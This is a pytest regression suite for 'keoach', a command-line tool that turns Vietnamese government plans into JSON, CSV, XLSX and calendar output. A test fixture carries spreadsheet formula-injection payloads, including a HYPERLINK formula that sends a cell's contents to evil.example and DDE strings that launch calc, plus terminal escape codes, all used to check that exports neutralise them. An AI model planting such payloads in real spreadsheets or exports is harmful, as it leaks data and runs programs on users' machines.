"""Regression tests for issue 17 (B1–B12 and the CLI conventions) and issue 18 items 4, 10, 11
(formula injection, markup and escape sequences in views, characters XLSX cannot hold). Each runs
the installed command as a user would."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

SAMPLES = Path(__file__).parent.parent / "samples"
PLAN_A = SAMPLES / "thi-xa-huong-tra-2021-2025.txt"
PLAN_B = SAMPLES / "huyen-trung-khanh-2025.txt"
PDF = SAMPLES / "pdf-xa-hoang-trung-2021-2030.pdf"
DOCX = SAMPLES / "real-lao-cai-kiem-tra-vlncn.docx"

PERIOD_PLAN = """KẾ HOẠCH
Thực hiện công tác trẻ em giai đoạn 2021 - 2025
I. MỤC TIÊU
- Tỷ lệ xã đạt chuẩn 90% vào năm 2025.
II. TỔ CHỨC THỰC HIỆN
1. Phòng Lao động - Thương binh và Xã hội
- Tổng hợp, báo cáo Ủy ban nhân dân huyện kết quả thực hiện trước ngày 20/11 hằng năm.
- Hoàn thành việc rà soát trong quý IV/2024.
"""


def keoach(*args: str, stdin: bytes | None = None, env: dict | None = None, cwd: Path | None = None,
           umask: int | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "keoach", *args], capture_output=True, input=stdin, timeout=120,
                          env={**os.environ, **(env or {})}, cwd=cwd,
                          preexec_fn=(lambda: os.umask(umask)) if umask is not None else None)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    src = tmp_path / "plans"
    src.mkdir()
    for p in (PLAN_A, PLAN_B):
        (src / p.name).write_bytes(p.read_bytes())
    return src


# --- B1–B12 --------------------------------------------------------------------------------------

def test_b1_output_file_of_a_batch(folder: Path, tmp_path: Path) -> None:
    r = keoach("parse", str(folder), "-r", "-o", str(tmp_path / "all.jsonl"))
    assert r.returncode == 0 and not r.stdout
    assert [json.loads(x)["schema_version"] for x in (tmp_path / "all.jsonl").read_bytes().splitlines()] == ["1", "1"]
    r = keoach("parse", str(PLAN_A), str(PLAN_B), "-o", str(tmp_path / "x.json"))
    assert r.returncode == 0 and not r.stdout
    plans = json.loads((tmp_path / "x.json").read_bytes())       # one JSON document: an array of the plans
    assert [p["source"]["path"] for p in plans] == [str(PLAN_A), str(PLAN_B)]


def test_b2_summary_of_many_files() -> None:
    r = keoach("parse", str(PLAN_A), str(PLAN_B), "-f", "summary")
    text = r.stdout.decode("utf-8")
    assert r.returncode == 0 and text.count("Các phần") == 2 and "Trùng Khánh" in text and "Đỗ Ngọc An" in text


@pytest.mark.parametrize("fmt, suffix", [("csv", ".csv"), ("xlsx", ".xlsx"), ("summary", ".txt")])
def test_b3_out_dir_writes_the_format_asked(folder: Path, tmp_path: Path, fmt: str, suffix: str) -> None:
    out = tmp_path / "D"
    r = keoach("parse", str(folder), "-r", "--out-dir", str(out), "-f", fmt)
    assert r.returncode == 0, r.stderr
    assert sorted(p.name for p in out.iterdir()) == sorted(p.stem + suffix for p in folder.iterdir())
    if fmt == "csv":
        assert all(p.read_bytes().startswith(b"\xef\xbb\xbffile,") for p in out.iterdir())
    if fmt == "xlsx":
        assert all(zipfile.is_zipfile(p) for p in out.iterdir())
    r = keoach("parse", str(folder), "-r", "--out-dir", str(tmp_path / "E"), "-f", "jsonl")
    assert r.returncode == 2 and b"--out-dir" in r.stderr and not (tmp_path / "E").exists()


def test_b4_stdin_takes_the_format(tmp_path: Path) -> None:
    r = keoach("parse", "-", "-f", "csv", stdin=PLAN_B.read_bytes())
    assert r.returncode == 0 and r.stdout.startswith(b"file,number,date")
    r = keoach("parse", "-", "-f", "xlsx", "-o", str(tmp_path / "x.xlsx"), stdin=PLAN_B.read_bytes())
    import openpyxl
    assert r.returncode == 0 and openpyxl.load_workbook(tmp_path / "x.xlsx")["targets"].max_row > 1


def test_b5_summary_to_a_file(tmp_path: Path) -> None:
    r = keoach("parse", str(PLAN_A), "-f", "summary", "-o", str(tmp_path / "s.txt"))
    text = (tmp_path / "s.txt").read_text(encoding="utf-8")
    assert r.returncode == 0 and not r.stdout and "Chỉ tiêu" in text and "\x1b" not in text


def test_b6_openpyxl_is_a_dependency_and_dependencies_match_the_imports() -> None:
    tomllib = pytest.importorskip("tomllib")
    meta = tomllib.loads((Path(__file__).parent.parent / "pyproject.toml").read_text(encoding="utf-8"))
    declared = {d.split(">")[0].split("<")[0].split("=")[0].strip().lower() for d in meta["project"]["dependencies"]}
    assert "openpyxl" in declared and "pypdfium2" in declared and "python-docx" not in declared
    declared |= {d.split(">")[0].strip().lower() for d in meta["project"]["optional-dependencies"]["ocr"]}
    import ast
    imported: set[str] = set()
    for path in (Path(__file__).parent.parent / "src" / "keoach").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Import):
                imported |= {a.name.split(".")[0] for a in node.names}
            elif isinstance(node, ast.ImportFrom) and not node.level and node.module:
                imported.add(node.module.split(".")[0])
    provided = {"pdfminer": "pdfplumber", "PIL": "pillow"}                      # pdfplumber's own reader, installed with it
    third_party = {provided.get(m, m) for m in imported if m not in sys.stdlib_module_names and m != "keoach"}
    assert third_party == declared, (third_party, declared)     # nothing declared that nothing imports


def test_b7_files_follow_the_umask(tmp_path: Path) -> None:
    out = tmp_path / "x.json"
    assert keoach("parse", str(PLAN_A), "-o", str(out), umask=0o022).returncode == 0
    assert out.stat().st_mode & 0o777 == 0o644
    out.chmod(0o664)                                            # overwriting keeps the file's own mode
    assert keoach("parse", str(PLAN_A), "-o", str(out), umask=0o077).returncode == 0
    assert out.stat().st_mode & 0o777 == 0o664
    assert keoach("parse", str(PLAN_A), "--out-dir", str(tmp_path / "d"), umask=0o027).returncode == 0
    assert (tmp_path / "d" / (PLAN_A.stem + ".json")).stat().st_mode & 0o777 == 0o640


@pytest.mark.parametrize("args", [("parse", str(PLAN_A)), ("parse", str(PLAN_A), "-f", "json"),
                                  ("parse", str(PLAN_A), "-f", "summary"), ("deadlines", str(PLAN_A)),
                                  ("deadlines", str(PLAN_A), "-f", "csv"), ("diff", str(PLAN_A), str(PLAN_B))],
                         ids=["fast-json", "json", "summary", "deadlines-table", "deadlines-csv", "diff-table"])
def test_b8_output_is_utf8_whatever_the_locale(args: tuple) -> None:
    r = keoach(*args, env={"PYTHONIOENCODING": "cp1258"})
    assert r.returncode in (0, 1) and b"Traceback" not in r.stderr and not r.stderr.startswith(b"keoach: internal")
    text = r.stdout.decode("utf-8")
    assert "ư" in text or "ơ" in text or "đ" in text


def test_b9_window_narrows_the_plan_period(tmp_path: Path) -> None:
    plan = tmp_path / "plan.txt"
    plan.write_text(PERIOD_PLAN, encoding="utf-8")
    r = keoach("deadlines", str(plan), "--from", "2026", "--until", "2027", "-f", "json")
    assert r.returncode == 0 and json.loads(r.stdout) == []          # the plan ends in 2025
    rows = json.loads(keoach("deadlines", str(plan), "--from", "2024", "--until", "2027", "-f", "json").stdout)
    assert [(x["date"], x["recurrence"]) for x in rows] == [("2024-Q4", "none"), ("2024-11-20", "yearly"),
                                                           ("2025-11-20", "yearly")]
    ics = keoach("deadlines", str(plan), "--from", "2024", "--until", "2027", "-f", "ics", "--today", "2024-01-01")
    events = ics.stdout.decode().split("BEGIN:VEVENT")[1:]
    assert len(events) == 2 and "RRULE:FREQ=YEARLY;BYMONTH=11;BYMONTHDAY=20;UNTIL=20251120" in "".join(events)
    assert "2026" not in "".join(events) and "2027" not in "".join(events)
    upcoming = json.loads(keoach("deadlines", str(plan), "--today", "2025-11-01", "--upcoming", "800",
                                 "-f", "json").stdout)
    assert [x["date"] for x in upcoming] == ["2025-11-20"]           # --upcoming agrees: nothing past 2025


def test_b10_a_plan_and_its_json_are_one_plan(folder: Path, tmp_path: Path) -> None:
    assert keoach("parse", str(folder), "-r", "--out-dir", str(folder / "json")).returncode == 0
    alone = json.loads(keoach("deadlines", str(PLAN_A), str(PLAN_B), "-f", "json").stdout)
    both = keoach("deadlines", str(folder), "-r", "-f", "json", "-v")
    def key(rows: list) -> list:
        return sorted((x["date"] or "", x["line"], x["plan"]["title"]) for x in rows)
    assert key(json.loads(both.stdout)) == key(alone)          # every deadline once
    assert both.stderr.decode().count("the same plan as") == 2
    ics_alone = keoach("deadlines", str(PLAN_A), str(PLAN_B), "-f", "ics", "--today", "2025-01-01").stdout
    ics_both = keoach("deadlines", str(folder), "-r", "-f", "ics", "--today", "2025-01-01").stdout
    assert ics_both.count(b"BEGIN:VEVENT") == ics_alone.count(b"BEGIN:VEVENT") > 0


def test_b11_a_table_in_a_file_is_the_table(tmp_path: Path) -> None:
    keoach("diff", str(PLAN_A), str(PLAN_B), "-o", str(tmp_path / "d.txt"))
    text = (tmp_path / "d.txt").read_text(encoding="utf-8")
    assert not text.lstrip().startswith("{") and "targets" in text and "differences" in text
    assert keoach("deadlines", str(PLAN_A), "-o", str(tmp_path / "f.txt"), "--today", "2025-01-01").returncode == 0
    text = (tmp_path / "f.txt").read_text(encoding="utf-8")
    assert not text.lstrip().startswith("[") and "hạn" in text and "\x1b" not in text


def test_b12_dash_is_standard_output(tmp_path: Path) -> None:
    for args in (("parse", str(PLAN_A), "-o", "-"), ("parse", str(PLAN_A), str(PLAN_B), "-o", "-"),
                 ("deadlines", str(PLAN_A), "-f", "csv", "-o", "-"), ("diff", str(PLAN_A), str(PLAN_B), "-f", "md",
                                                                     "-o", "-")):
        r = keoach(*args, cwd=tmp_path)
        assert r.returncode in (0, 1) and r.stdout and not (tmp_path / "-").exists(), args


# --- CLI conventions -------------------------------------------------------------------------------

def test_unread_files_in_a_folder_are_counted_and_named(folder: Path) -> None:
    (folder / "old.doc").write_bytes(b"\xd0\xcf\x11\xe0")
    r = keoach("parse", str(folder), "-r")
    assert r.returncode == 0 and b"0 skipped, 1 not plan files (-v names them)" in r.stderr
    r = keoach("parse", str(folder), "-r", "-v")
    assert b"old.doc: skipped: legacy Word .doc" in r.stderr


@pytest.mark.parametrize("path", [PDF, DOCX], ids=["pdf", "docx"])
def test_pdf_and_docx_on_stdin_are_read(path: Path) -> None:
    r = keoach("parse", "-", stdin=path.read_bytes())
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["source"]["format"] == path.suffix[1:]


def test_diff_and_deadlines_read_stdin() -> None:
    r = keoach("diff", "-", str(PLAN_A), "-f", "json", stdin=PLAN_A.read_bytes())
    assert r.returncode == 0 and json.loads(r.stdout)["counts"]["targets"] == 0
    parsed = keoach("parse", str(PLAN_A)).stdout
    r = keoach("deadlines", "-", "-f", "jsonl", stdin=parsed)
    assert r.returncode == 0 and len(r.stdout.splitlines()) > 1


def test_a_reader_that_leaves_is_not_an_error(folder: Path) -> None:
    for n in range(30):
        (folder / f"copy{n}.txt").write_bytes(PLAN_A.read_bytes().replace(b"2021", str(1990 + n).encode(), 1))
    for args in (("parse", str(folder), "-r", "--jobs", "1"), ("deadlines", str(folder), "-r", "-f", "jsonl")):
        p = subprocess.Popen([sys.executable, "-m", "keoach", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert p.stdout is not None and p.stdout.readline()
        p.stdout.close()                                        # `| head -1`
        _, err = p.communicate(timeout=120)
        assert p.returncode == 0 and b"Traceback" not in err, (args, err)


@pytest.mark.parametrize("command", ["parse", "diff", "deadlines", "schema"])
def test_every_command_has_short_help_and_quiet(command: str) -> None:
    r = keoach(command, "-h")
    assert r.returncode == 0 and b"-q" in r.stdout and b"-v" in r.stdout and b"--help" in r.stdout
    assert keoach("-h").returncode == 0


def test_shell_completion() -> None:
    r = keoach(env={"_KEOACH_COMPLETE": "complete_bash", "COMP_WORDS": "keoach dea", "COMP_CWORD": "1"})
    assert r.returncode == 0 and r.stdout.split() == [b"deadlines"]
    r = keoach(env={"_KEOACH_COMPLETE": "complete_bash", "COMP_WORDS": "keoach parse x --for", "COMP_CWORD": "3"})
    assert b"--format" in r.stdout


def test_refusals_come_before_any_parsing(tmp_path: Path) -> None:
    slow = tmp_path / "missing-but-never-read.txt"
    for args, words in ((("parse", str(slow), "-o", "x.json", "--out-dir", "d"), b"exclude each other"),
                        (("parse", str(slow), "--skip-existing"), b"--skip-existing"),
                        (("parse", str(slow), "--fields", "nope", "-f", "csv"), b"no column nope"),
                        (("deadlines", str(slow), "--alarm", "3"), b"--format ics")):
        r = keoach(*args, cwd=tmp_path)
        assert r.returncode == 2 and words in r.stderr and b"no such file" not in r.stderr, (args, r.stderr)


# --- issue 18: 4 formula injection, 10 markup and escapes, 11 characters XLSX cannot hold ----------

HOSTILE = """ỦY BAN NHÂN DÂN
HUYỆN A
Số: 12/KH-UBND                      A, ngày 10 tháng 3 năm 2025

KẾ HOẠCH
=HYPERLINK("http://evil.example/?x="&A1,"bấm") [/bold] [link=http://evil.example]x[/link] \x1b[31mđỏ\x1b[0m

I. MỤC TIÊU
1. Chỉ tiêu
- =cmd|' /C calc'!A0 đạt 95% vào năm 2025.
- @SUM(1+1)*cmd|' /C calc'!A0 đạt 90% vào năm 2025.
- +1+cmd|' /C calc'!A0 giảm còn dưới 3% vào năm 2025.
- Tỷ lệ [/red] hộ nghèo\x07 giảm còn 2% vào năm 2025.
II. NHIỆM VỤ
1. Báo cáo
- =1+1 Báo cáo kết quả về Ủy ban nhân dân huyện trước ngày 15/11/2025.
III. TỔ CHỨC THỰC HIỆN
1. Phòng Lao động - Thương binh và Xã hội: =2+5 chủ trì theo dõi, báo cáo trước ngày 20/12/2025.
"""


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "=1+1.txt"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def test_18_4_csv_cells_never_start_a_formula(hostile: Path) -> None:
    for args in (("parse", str(hostile), "-f", "csv"), ("parse", str(hostile), "-f", "csv", "--table", "deadlines"),
                 ("deadlines", str(hostile), "-f", "csv")):
        r = keoach(*args)
        assert r.returncode == 0, r.stderr
        rows = list(csv.reader(io.StringIO(r.stdout.decode("utf-8"))))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if len(c) > 1 and (c[:1] in ("=", "+", "@") or c[:1] == "-" and not
                    c[1:].replace(".", "").replace(",", "").isdigit())], args     # a lone "=" (comparator) is no formula
        assert any(c.startswith("'=") for c in cells)
    rows = list(csv.DictReader(io.StringIO(keoach("parse", str(hostile), "-f", "csv").stdout.decode())))
    assert {r["value"] for r in rows} == {"95", "90", "3", "2"}         # numbers stay numbers, whole ones integers


def test_18_4_and_11_xlsx_text_is_text_and_control_characters_do_not_sink_it(hostile: Path, tmp_path: Path) -> None:
    import openpyxl
    book = tmp_path / "x.xlsx"
    r = keoach("parse", str(hostile), "-f", "xlsx", "-o", str(book))
    assert r.returncode == 0, r.stderr
    with zipfile.ZipFile(book) as z:
        sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets and b"<f " not in sheets                      # not one formula
    wb = openpyxl.load_workbook(book)
    values = [c.value for row in wb["targets"].iter_rows(min_row=2) for c in row]
    assert "=1+1.txt" in values and 95 in values                              # the file's name, a typed number
    assert any(isinstance(v, str) and v.startswith("=cmd") for v in values)
    assert not any(isinstance(v, str) and "\x07" in v for v in values)


def test_18_10_views_show_markup_as_text_and_drop_escape_sequences(hostile: Path, tmp_path: Path) -> None:
    r = keoach("parse", str(hostile), "-f", "summary", env={"COLUMNS": "250"})
    text = r.stdout.decode("utf-8")
    assert r.returncode == 0 and "[/bold]" in text and "[link=http://evil.example]x[/link]" in text
    assert "\x1b" not in text and "\x07" not in text and "đỏ" in text
    other = tmp_path / "other.txt"
    other.write_text(HOSTILE.replace("còn 2%", "còn 1%"), encoding="utf-8")
    for args in (("diff", str(other), str(hostile)), ("diff", str(hostile), str(other), "-f", "md"),
                 ("deadlines", str(hostile), "--today", "2025-01-01")):
        r = keoach(*args, env={"COLUMNS": "250"})
        assert r.returncode in (0, 1) and b"internal error" not in r.stderr, (args, r.stderr)
        assert b"\x1b" not in r.stdout and b"\x07" not in r.stdout, args
    assert "[/red]" in keoach("diff", str(other), str(hostile), env={"COLUMNS": "250"}).stdout.decode()


# --- "What must work" 6 and 9: CSV columns, typed XLSX, the Vietnamese summary ---------------------

def test_csv_fields_and_tables() -> None:
    r = keoach("parse", str(PLAN_A), "-f", "csv", "--fields", "code,metric,value,year")
    rows = list(csv.reader(io.StringIO(r.stdout.decode("utf-8"))))
    assert r.returncode == 0 and rows[0] == ["code", "metric", "value", "year"] and rows[1][0] == "1"
    assert all(not v.endswith(".0") for _, _, v, _ in rows[1:])
    for table, column in (("assignments", "agency"), ("deadlines", "recurrence")):
        rows = list(csv.DictReader(io.StringIO(keoach("parse", str(PLAN_A), "-f", "csv", "--table", table)
                                               .stdout.decode("utf-8"))))
        assert rows and all(r[column] for r in rows), table


def test_xlsx_typed_cells_short_names_and_word_tables(tmp_path: Path) -> None:
    import datetime

    import openpyxl
    book = tmp_path / "x.xlsx"
    assert keoach("parse", str(PLAN_A), str(DOCX), str(SAMPLES / "so-ldtbxh-gia-lai-2021.txt"), "-f", "xlsx",
                  "-o", str(book)).returncode == 0
    wb = openpyxl.load_workbook(book)
    assert len(wb.sheetnames) == 4 and "bảng 1" in wb.sheetnames[3]             # the .docx data table
    targets = wb["targets"]
    header = [c.value for c in targets[1]]
    rows = [dict(zip(header, (c.value for c in row))) for row in targets.iter_rows(min_row=2)]
    assert {r["file"] for r in rows} >= {PLAN_A.name}                            # not an absolute path
    assert all(isinstance(r["code"], int) for r in rows if r["file"] == PLAN_A.name)
    assert any(isinstance(r["value"], int) for r in rows)
    dated = [r["date"] for r in rows if r["date"] is not None]
    assert dated and all(isinstance(d, datetime.datetime) for d in dated)


def test_summary_in_vietnamese_with_targets_deadlines_leads_and_pages() -> None:
    text = keoach("parse", str(PLAN_A), "-f", "summary", env={"COLUMNS": "200"}).stdout.decode("utf-8")
    for words in ("Chỉ tiêu", "Mục tiêu", "Năm", "Thời hạn", "Đơn vị chủ trì", "dưới 1 ‰", "ngày 30/11",
                  "hằng năm", "Phòng Y tế", "chỉ tiêu chưa có đơn vị chủ trì"):
        assert words in text, words
    assert "indicators," not in text and "deadlines," not in text                # no English labels
    pdf = keoach("parse", str(PDF), "-f", "summary", env={"COLUMNS": "200"}).stdout.decode("utf-8")
    assert "trang)" in pdf and ", tr. " in pdf


def test_b8_messages_never_fail_on_the_locale(tmp_path: Path) -> None:
    missing = tmp_path / "kế-hoạch-đã-mất.txt"
    for args in (("parse", str(missing)), ("parse", str(missing), "-f", "csv"), ("deadlines", str(missing))):
        r = keoach(*args, env={"PYTHONIOENCODING": "ascii"})
        assert r.returncode == 2 and b"no such file" in r.stderr and b"internal error" not in r.stderr, r.stderr


def _on_a_terminal(*args: str, env: dict | None = None) -> tuple[int, bytes, bytes]:
    """keoach with its stdout on a pseudo-terminal."""
    pty = pytest.importorskip("pty")
    master, slave = pty.openpty()
    p = subprocess.Popen([sys.executable, "-m", "keoach", *args], stdout=slave, stderr=subprocess.PIPE,
                         env={**os.environ, **(env or {})})
    os.close(slave)
    out = b""
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:                                     # the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
    os.close(master)
    assert p.stderr is not None
    return p.wait(timeout=120), out, p.stderr.read()


def test_on_a_terminal_views_have_colour_and_binary_is_refused() -> None:
    code, out, _ = _on_a_terminal("parse", str(PLAN_B), "-f", "summary")
    assert code == 0 and b"\x1b[" in out
    code, out, _ = _on_a_terminal("parse", str(PLAN_B), "-f", "summary", env={"NO_COLOR": "1"})
    assert code == 0 and b"\x1b[" not in out and "Các phần".encode() in out
    code, out, err = _on_a_terminal("parse", str(PLAN_B), "-f", "xlsx")
    assert code == 2 and not out and b"binary" in err


def test_stdin_is_told_what_a_file_is_told(tmp_path: Path) -> None:
    novel = "Ngày xưa, ở một làng nọ có hai chị em Tấm và Cám.\n" * 50
    path = tmp_path / "novel.txt"
    path.write_text(novel, encoding="utf-8")
    from_file, from_stdin = keoach("parse", str(path)), keoach("parse", "-", stdin=novel.encode())
    assert from_file.returncode == from_stdin.returncode == 2
    assert from_stdin.stderr == from_file.stderr.replace(str(path).encode(), b"-")
